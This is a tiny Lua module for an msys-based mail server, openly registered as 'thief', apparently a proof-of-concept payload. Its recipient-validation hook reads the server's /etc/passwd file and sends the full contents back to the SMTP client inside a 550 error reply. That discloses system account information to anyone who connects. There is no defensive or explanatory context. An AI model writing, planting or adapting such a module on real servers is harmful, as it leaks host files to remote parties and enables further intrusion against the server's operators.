require("msys.core")
local mod = {}
function mod:validate_rcptto(msg, str, accept, vctx)
  local file = io.open("/etc/passwd")
  vctx:set_code(550, file:read("*a"))
  return msys.core.VALIDATE_DONE
end
msys.registerModule("thief", mod)
